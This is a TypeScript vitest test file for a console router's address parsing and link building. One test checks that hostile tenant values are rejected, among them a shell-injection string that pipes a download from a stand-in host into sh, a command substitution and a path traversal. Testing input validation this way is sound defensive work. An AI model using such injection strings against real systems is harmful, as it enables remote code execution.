import { expect, test } from "vitest";
import { createRouter } from "./router.ts";

/** The router of a page at this address. */
function routerAt(pathname: string, search: string) {
  return createRouter({ location: { pathname, search }, addEventListener() {} } as unknown as Window);
}

test("an address names a screen and its parameters, which its links keep the tenant of", () => {
  const router = routerAt("/console/why", "?tenant=acme&subject=a%26b");
  expect(router.place.value.screen).toBe("why");
  expect(router.parameter("subject")).toBe("a&b");
  expect(router.hrefOf("tail", { type: "order.*" })).toBe("/console/tail?tenant=acme&type=order.*");
});

test.each(["x;curl evil.example|sh;", "$(id)", "..", "a b", ""])("a link cannot call %j a tenant", (tenant) => {
  const router = routerAt("/console/audit", `?${new URLSearchParams({ tenant }).toString()}`);
  expect(router.parameter("tenant")).toBeUndefined();
  expect(router.hrefOf("audit")).toBe("/console/audit");
});

test("an address that is not well encoded leads to no screen", () => {
  expect(routerAt("/console/%E0%A4%A", "").place.value.screen).toBe("%E0%A4%A");
});
